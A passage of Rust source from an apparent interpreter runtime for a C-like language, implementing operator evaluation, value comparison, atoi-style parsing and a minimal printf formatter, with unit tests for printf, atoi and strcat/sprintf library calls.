                (Eq, None) => matches!(a, RtValue::Null) && matches!(b, RtValue::Null),
                _ => false,
            };
            RtValue::Bool(r)
        }
        And | Or => unreachable!("short-circuited by the runtimes"),
    }
}

fn int_preserving(
    a: &RtValue,
    b: &RtValue,
    int_op: fn(i64, i64) -> i64,
    float_op: fn(f64, f64) -> f64,
) -> RtValue {
    if let (RtValue::Int(x), RtValue::Int(y)) = (a, b) {
        RtValue::Int(int_op(*x, *y))
    } else {
        num_op(a, b, float_op)
    }
}

fn num_op(a: &RtValue, b: &RtValue, f: fn(f64, f64) -> f64) -> RtValue {
    RtValue::Float(f(
        a.as_number().unwrap_or(0.0),
        b.as_number().unwrap_or(0.0),
    ))
}

fn compare(a: &RtValue, b: &RtValue) -> Option<std::cmp::Ordering> {
    match (a, b) {
        (RtValue::Null, _) | (_, RtValue::Null) => None,
        (RtValue::Str(x), RtValue::Str(y)) => {
            // Numeric-looking strings compare numerically, else lexically.
            match (x.trim().parse::<f64>(), y.trim().parse::<f64>()) {
                (Ok(nx), Ok(ny)) => nx.partial_cmp(&ny),
                _ => Some(x.cmp(y)),
            }
        }
        _ => {
            let na = a.as_number()?;
            let nb = b.as_number()?;
            na.partial_cmp(&nb)
        }
    }
}

fn parse_prefix_int(s: &str) -> i64 {
    let t = s.trim_start();
    let (sign, rest) = match t.strip_prefix('-') {
        Some(r) => (-1, r),
        None => (1, t.strip_prefix('+').unwrap_or(t)),
    };
    let digits: String = rest.chars().take_while(|c| c.is_ascii_digit()).collect();
    digits.parse::<i64>().map(|v| sign * v).unwrap_or(0)
}

/// Minimal printf formatting: consumes `%s`/`%d`/`%i`/`%f`/`%c` in order;
/// `%%` emits a literal percent; unknown directives are copied through.
pub fn format_printf(fmt: &str, args: &[RtValue]) -> String {
    let mut out = String::with_capacity(fmt.len() + 8 * args.len());
    format_printf_into(&mut out, fmt, args);
    out
}

/// [`format_printf`] appending to an existing buffer — `printf` formats
/// straight into the captured stdout, with no intermediate `String`.
fn format_printf_into(out: &mut String, fmt: &str, args: &[RtValue]) {
    use std::fmt::Write;
    let mut arg_iter = args.iter();
    let mut chars = fmt.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('%') => out.push('%'),
            // String args append in place (no intermediate render alloc).
            Some('s') | Some('c') => match arg_iter.next() {
                Some(RtValue::Str(s)) => out.push_str(s),
                Some(v) => {
                    let _ = write!(out, "{v}");
                }
                None => {}
            },
            Some('d') | Some('i') => {
                let v = arg_iter.next().and_then(RtValue::as_int).unwrap_or(0);
                let _ = write!(out, "{v}");
            }
            Some('f') => {
                let v = arg_iter.next().and_then(RtValue::as_number).unwrap_or(0.0);
                let _ = write!(out, "{v:.6}");
            }
            Some(other) => {
                out.push('%');
                out.push(other);
            }
            None => out.push('%'),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn printf_formatting() {
        assert_eq!(
            format_printf(
                "%s has %d items (%f%%)",
                &[
                    RtValue::Str("cart".into()),
                    RtValue::Int(3),
                    RtValue::Float(99.5)
                ]
            ),
            "cart has 3 items (99.500000%)"
        );
        assert_eq!(format_printf("100%%", &[]), "100%");
    }

    #[test]
    fn atoi_parses_prefix() {
        assert_eq!(parse_prefix_int("42abc"), 42);
        assert_eq!(parse_prefix_int("  -7"), -7);
        assert_eq!(parse_prefix_int("x"), 0);
    }

    #[test]
    fn out_param_calls_return_the_stored_value() {
        // The contract the runtimes rely on: for every out-param call, the
        // host's return value IS the value to store. Spot-check the string
        // family, whose return values are computed (not just echoed input).
        let mut session = ClientSession::connect(adprom_db::Database::new("t"));
        let mut host = Host::new(&mut session, &[], &ExecConfig::default());
        let v = host.lib_call(
            LibCall::Strcat,
            &[RtValue::Str("ab".into()), RtValue::Str("cd".into())],
        );
        assert_eq!(v, Some(RtValue::Str("abcd".into())));
        let v = host.lib_call(
            LibCall::Sprintf,
            &[
                RtValue::Str("dst".into()),
                RtValue::Str("%d!".into()),
                RtValue::Int(7),
            ],
        );
        assert_eq!(v, Some(RtValue::Str("7!".into())));
    }
}
